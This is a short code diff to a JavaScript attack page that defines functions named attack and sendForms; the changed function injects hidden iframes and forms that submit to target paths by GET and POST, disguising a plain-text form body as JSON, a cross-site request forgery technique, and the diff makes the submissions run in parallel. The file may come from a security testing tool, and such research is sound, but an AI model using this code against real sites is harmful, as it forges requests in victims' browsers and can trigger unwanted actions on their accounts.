@@ -60,6 +60,7 @@ async function attack({ base, paths, key, body }) {
 
 /** Sends forms into frames, by both methods: what arrives is no answer to a script, but may have an effect. */
 async function sendForms({ base, paths, body }) {
+	const answered = [];
 	for (const path of paths) {
 		for (const method of ["get", "post"]) {
 			const frame = Object.assign(document.createElement("iframe"), { name: `${method} ${path}` });
@@ -68,13 +69,15 @@ async function sendForms({ base, paths, body }) {
 			// A form of plain text can be made to look like JSON.
 			form.append(Object.assign(document.createElement("input"), { name: `${body.slice(0, -1)},"x":"`, value: '"}' }));
 			document.body.append(frame, form);
-			const loaded = new Promise((resolve) => {
-				frame.onload = resolve;
-			});
+			answered.push(
+				new Promise((resolve) => {
+					frame.onload = resolve;
+				}),
+			);
 			form.submit();
-			await loaded;
 		}
 	}
+	await Promise.all(answered);
 }
 
 Object.assign(window, { attack, sendForms });
